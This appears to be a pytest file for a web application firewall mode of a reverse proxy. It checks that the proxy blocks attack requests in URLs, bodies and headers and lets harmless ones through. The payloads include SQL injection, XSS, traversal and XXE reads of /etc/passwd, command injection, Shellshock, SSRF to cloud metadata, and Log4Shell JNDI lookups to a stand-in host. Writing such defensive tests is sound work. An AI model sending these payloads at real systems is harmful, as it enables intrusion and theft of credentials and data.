"""The logic rules through the running program: ``bascule reverse --waf block``, nothing else asked for."""

from __future__ import annotations

import http.client
import json
from collections.abc import Iterator
from urllib.parse import quote, urlencode

import pytest

from tests.support.origins import Origin, mirror
from tests.support.program import Bascule

BROWSER = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "Accept-Language": "en-US,en;q=0.9,de;q=0.8",
    "Sec-Fetch-Mode": "navigate",
    "Referer": "https://shop.example/search?q=red+shoes&sort=-price",
    "Cookie": "session=3f2a9bd07c1e; _ga=GA1.2.123456789.1600000000; consent=%7B%22ads%22%3Afalse%7D",
}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Content-Type": "application/json"}
XML = {"Content-Type": "application/xml"}


@pytest.fixture(scope="module")
def port() -> Iterator[int]:
    with Origin(mirror) as origin:
        to = f"http://127.0.0.1:{origin.port}"
        with Bascule(
            None, "reverse", "--listen", "127.0.0.1:0", "--to", to, "--waf", "block", "--workers", "1"
        ) as bascule:
            yield bascule.port


def ask(
    port: int, target: str, body: str | None = None, fields: dict[str, str] | None = None
) -> http.client.HTTPResponse:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.request("GET" if body is None else "POST", target, body, {**BROWSER, **(fields or {})})
        response = connection.getresponse()
        response.read()
        return response
    finally:
        connection.close()


ATTACKS = {
    "sql": "/item?id=" + quote("1' UNION SELECT username, password FROM users -- "),
    "sql in a tautology": "/login?user=" + quote("admin' or 'a'='a"),
    "xss": "/search?q=" + quote('"><script>alert(document.cookie)</script>'),
    "xss in an attribute": "/search?q=" + quote("<img src=x onerror=alert(1)>"),
    "traversal": "/download?file=" + quote("../../../../etc/passwd"),
    "traversal, encoded twice": "/download?file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "command": "/ping?host=" + quote("127.0.0.1; cat /etc/passwd"),
    "template": "/hello?name=" + quote("{{''.__class__.__mro__[1].__subclasses__()}}"),
    "code": "/page?x=" + quote("<?php system('id'); ?>"),
    "jndi": "/?x=" + quote("${jndi:ldap://evil.example/a}"),
    "nosql": "/login?" + urlencode({"user[$ne]": "x", "password[$gt]": ""}),
    "ldap": "/find?name=" + quote("*)(uid=*))(|(uid=*"),
    "ssrf": "/fetch?url=" + quote("http://169.254.169.254/latest/meta-data/"),
    "http": "/go?to=" + quote("x\r\nSet-Cookie: admin=1"),
}


@pytest.mark.parametrize("target", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_of_each_family_is_refused(port: int, target: str) -> None:
    response = ask(port, target)
    assert response.status == 403
    assert response.getheader("x-bascule-ref")


@pytest.mark.parametrize(
    ("body", "fields"),
    [
        ("name=a&comment=" + quote("<svg/onload=alert(1)>"), FORM),
        (json.dumps({"user": {"name": "x' OR 1=1 -- "}}), JSON),
        ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>', XML),
    ],
    ids=["form", "json", "xml"],
)
def test_bodies_are_judged(port: int, body: str, fields: dict[str, str]) -> None:
    response = ask(port, "/save", body, fields)
    assert response.status == 403
    assert response.getheader("x-bascule-ref")


@pytest.mark.parametrize(
    "fields",
    [
        {"Referer": "https://a.example/?q=" + quote("<script>alert(1)</script>")},
        {"Cookie": "id=1' UNION SELECT password FROM users -- "},
        {"User-Agent": "() { :;}; /bin/bash -c 'cat /etc/passwd'"},
        {"X-Api-Version": "${jndi:ldap://evil.example/a}"},
    ],
    ids=["referer", "cookie", "user-agent", "any"],
)
def test_header_fields_are_judged(port: int, fields: dict[str, str]) -> None:
    assert ask(port, "/", fields=fields).status == 403


HONEST = {
    "start": "/",
    "assets": "/static/app.3f2a9b.js?v=1.2.3",
    "search": "/search?q=" + quote("union jack & select menswear, drop in from 5 to 7 or later"),
    "name": "/people?name=" + quote("Conan O'Brien"),
    "mathematics": "/solve?f=" + quote("(a+b)*(c-d)/2 >= x and y < 3"),
    "address": "/share?url=" + quote("https://www.example.com/a/b?c=d&e=f#top"),
    "sort": "/list?sort=-price&fields=id,name&filter%5Bcolour%5D%5B%5D=red&page=2",
}


@pytest.mark.parametrize("target", HONEST.values(), ids=HONEST)
def test_an_honest_session_passes(port: int, target: str) -> None:
    assert ask(port, target).status == 200


@pytest.mark.parametrize(
    ("body", "fields"),
    [
        (urlencode({"user": "d'arcy", "comment": "I'd select the blue one -- or the red; what's \"best\"?"}), FORM),
        (json.dumps({"query": "query Q($id: ID!) { item(id: $id) { name } }", "variables": {"id": 7}}), JSON),
        (
            json.dumps({"post": "Use `x.map(y => y * 2)`, then **sort** it: see [docs](https://docs.example/a?b=1)"}),
            JSON,
        ),
    ],
    ids=["form", "graphql", "markdown"],
)
def test_honest_bodies_pass(port: int, body: str, fields: dict[str, str]) -> None:
    assert ask(port, "/save", body, fields).status == 200
